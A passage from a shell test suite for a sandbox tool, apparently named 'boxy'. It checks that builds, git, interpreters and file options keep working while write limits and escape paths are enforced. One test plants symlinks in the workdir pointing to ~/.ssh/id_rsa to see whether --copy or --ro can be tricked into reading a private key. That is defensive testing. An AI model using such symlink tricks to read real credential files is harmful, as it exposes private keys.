	""|*[!0-9]*) echo "untested: df $d: ${sz:-no output}" ;;
	*) if [ "$sz" -gt 65536 ]; then echo "ESCAPED: $d is a $sz KiB tmpfs under --memory 64M"
	   else echo "blocked: $d is a $sz KiB tmpfs"; fi ;;
	esac
done'

	# -- what must keep working
	HOSTCHECK=workdir_check works workdir-rw "write and read a file in the workdir; the host sees it" -- '
echo "data-$M" >made-inside.txt && grep -q "data-$M" made-inside.txt && mkdir -p sub/dir && echo WORKS'
	works git-commit "git init && git add && git commit in the workdir" \
		-e GIT_AUTHOR_NAME=boxy -e GIT_AUTHOR_EMAIL=boxy@example.invalid \
		-e GIT_COMMITTER_NAME=boxy -e GIT_COMMITTER_EMAIL=boxy@example.invalid -- '
mkdir fresh && cd fresh && git init -q && echo x >x && git add x && git commit -qm x &&
	[ "$(git log --format=%s -1)" = x ] && echo WORKS'
	SETUP=git_setup HOSTCHECK=git_check works git-commit-protected \
		"git commit in a protected repository (objects, refs, index writable)" -- '
echo more >>README && git add README &&
	git -c user.name=b -c user.email=b@example.invalid commit -qm more &&
	[ -z "$(git status --short --untracked-files=no)" ] &&
	[ "$(git log --format=%s -1)" = more ] && echo WORKS'
	works cc "compile and run a C program with cc" -- '
printf "#include <stdio.h>\nint main(void){puts(\"WORKS\");return 0;}\n" >hello.c && cc -o hello hello.c && ./hello'
	if command -v python3 >/dev/null; then
		works python3 "python3 -c runs" -- 'python3 -c "print(\"WORKS\")"'
	else
		only python3 && skip "works: python3 -c runs" "python3 is not installed"
	fi
	if command -v node >/dev/null; then
		works node "node -e runs" -- 'node -e "console.log(\"WORKS\")"'
	else
		only node && skip "works: node -e runs" "node is not installed"
	fi
	SETUP=ro_setup HOSTCHECK=ro_check works ro "--ro file is readable, not writable" --ro "$SUITE/ro/file.txt" -- '
grep -q "ro-$M" "$S/ro/file.txt" || echo "BROKEN: cannot read the --ro file"
(echo x >>"$S/ro/file.txt") 2>/dev/null && echo "ESCAPED: wrote the --ro file"
echo WORKS'
	SETUP=rw_setup HOSTCHECK=rw_check works rw "--rw dir is writable, --protect inside it is not" \
		--rw "$SUITE/rw" --protect "$SUITE/rw/keep" -- '
echo "rw-$M" >"$S/rw/new.txt" || echo "BROKEN: cannot write the --rw dir"
(echo x >>"$S/rw/keep/k.txt") 2>/dev/null && echo "ESCAPED: wrote under --protect"
echo WORKS'
	SETUP=copy_setup HOSTCHECK=copy_check works copy "--copy file is present and writable; the host file is unchanged" \
		--copy "$SUITE/copy/c.txt" --copy-ro "$SUITE/copy/cro.txt" -- '
grep -q "copy-$M" "$S/copy/c.txt" || echo "BROKEN: --copy file missing"
echo changed >>"$S/copy/c.txt" || echo "BROKEN: --copy file not writable"
grep -q "copyro-$M" "$S/copy/cro.txt" || echo "BROKEN: --copy-ro file missing"
(echo changed >>"$S/copy/cro.txt") 2>/dev/null && echo "BROKEN: --copy-ro file is writable"
echo WORKS'
	works env-flags "-e NAME=VAL is set, -e NAME passes the caller's value" -e BOXY_SET=val-1 -e BOXY_PASS_ME -- '
[ "$BOXY_SET" = val-1 ] || echo "BROKEN: BOXY_SET=${BOXY_SET:-unset}"
[ "$BOXY_PASS_ME" = "passed-$M-ok" ] || echo "BROKEN: BOXY_PASS_ME=${BOXY_PASS_ME:-unset}"
echo WORKS'

	if only exit-status; then
		case_new exit-status
		local got=""
		boxy_run -- /bin/sh -c 'exit 7'; got="$got exit7=$RUN_RC"
		boxy_run -- /bin/sh -c 'kill -TERM $$'; got="$got sigterm=$RUN_RC"
		boxy_run -- /nonexistent/boxy-no-such-command; got="$got notfound=$RUN_RC"
		echo data >"$CASE_WORK/not-executable"
		boxy_run -- "$CASE_WORK/not-executable"; got="$got noexec=$RUN_RC"
		[ "$got" = " exit7=7 sigterm=143 notfound=127 noexec=126" ] &&
			ok "exit status: 7 propagates, SIGTERM is 143, not found 127, not executable 126" ||
			not_ok "exit status: got$got, want exit7=7 sigterm=143 notfound=127 noexec=126"
	fi
	# A symlink a sandboxed run planted in the workdir must not lead a later
	# run's --copy or --ro out of it (to ~/.ssh); a link that stays inside works.
	if only planted-link-source; then
		case_new planted-link-source
		ln -s "$CASE_HOME/.ssh/id_rsa" "$CASE_WORK/config.json"
		ln -s "$CASE_HOME/.ssh" "$CASE_WORK/vendor"
		echo inside-ok >"$CASE_WORK/real.txt"
		ln -s real.txt "$CASE_WORK/inside.link"
		local got="" leaked=""
		boxy_run --copy "$CASE_WORK/config.json:/tmp/c" -- /bin/sh -c 'cat /tmp/c'
		got="copy=$RUN_RC"
		grep -q "$BAIT" "$CASE/out" && leaked="$leaked --copy"
		grep -q "leads out of a directory the sandbox can write" "$CASE/err" || got="$got(no words)"
		boxy_run --ro "$CASE_WORK/vendor" -- /bin/sh -c "cat '$CASE_WORK/vendor/id_rsa'"
		got="$got ro=$RUN_RC"
		grep -q "$BAIT" "$CASE/out" && leaked="$leaked --ro"
		boxy_run --copy "$CASE_WORK/inside.link:/tmp/i" -- /bin/sh -c 'cat /tmp/i'
		got="$got inside=$RUN_RC"
		grep -q inside-ok "$CASE/out" || got="$got(no content)"
		if [ -n "$leaked" ]; then
			not_ok "a symlink planted in the workdir leads --copy/--ro to ~/.ssh"
			diag "ESCAPED: the key came in through$leaked"
		elif [ "$got" = "copy=125 ro=125 inside=0" ]; then
			ok "--copy/--ro through a symlink planted in the workdir are refused; a link inside works"
		else
			not_ok "--copy/--ro through a planted symlink: got $got, want copy=125 ro=125 inside=0"
			diag_file "$CASE/err" 5
		fi
	fi
	if only stdio; then
		case_new stdio
		boxy_run -- /bin/sh -c 'echo to-stdout; echo to-stderr >&2'
		if [ "$RUN_RC" -eq 0 ] && [ "$(cat "$CASE/out")" = to-stdout ] &&
			grep -q to-stderr "$CASE/err" && ! grep -q to-stdout "$CASE/err"; then
			ok "stdout and stderr stay separate"
		else
			not_ok "stdout and stderr stay separate (exit $RUN_RC)"
			diag_file "$CASE/out" 3
			diag_file "$CASE/err" 3
		fi
	fi
	if only audit-json; then
		case_new audit-json
		boxy_run --memory 64M --pids 64 -- /bin/true
		if [ -s "$CASE/audit.jsonl" ] && python3 -c '
import json, sys
for line in open(sys.argv[1]):
    o = json.loads(line)
    assert isinstance(o, dict) and "layer" in o, line
' "$CASE/audit.jsonl" 2>"$CASE/json.err"; then
			ok "the audit log is JSON lines with a layer ($(wc -l <"$CASE/audit.jsonl") lines)"
		else
			not_ok "the audit log is JSON lines with a layer"
			diag_file "$CASE/json.err" 3
			diag_file "$CASE/audit.jsonl" 5
		fi
	fi
}

workdir_check() {
	grep -q "data-$BAIT" "$CASE_WORK/made-inside.txt" 2>/dev/null || echo "BROKEN: the host does not see the file"
}
ro_setup() { mkdir -p "$SUITE/ro"; echo "ro-$BAIT" >"$SUITE/ro/file.txt"; }
ro_check() { [ "$(cat "$SUITE/ro/file.txt")" = "ro-$BAIT" ] || echo "ESCAPED: the --ro file changed on the host"; }
rw_setup() { mkdir -p "$SUITE/rw/keep"; echo keep >"$SUITE/rw/keep/k.txt"; rm -f "$SUITE/rw/new.txt"; }
rw_check() {
	grep -q "rw-$BAIT" "$SUITE/rw/new.txt" 2>/dev/null || echo "BROKEN: the --rw write did not reach the host"
	[ "$(cat "$SUITE/rw/keep/k.txt")" = keep ] || echo "ESCAPED: the --protect file changed on the host"
}
copy_setup() {
	mkdir -p "$SUITE/copy"
	echo "copy-$BAIT" >"$SUITE/copy/c.txt"
	echo "copyro-$BAIT" >"$SUITE/copy/cro.txt"
}
copy_check() {
	[ "$(cat "$SUITE/copy/c.txt")" = "copy-$BAIT" ] || echo "ESCAPED: the --copy source changed on the host"
	[ "$(cat "$SUITE/copy/cro.txt")" = "copyro-$BAIT" ] || echo "ESCAPED: the --copy-ro source changed on the host"
}
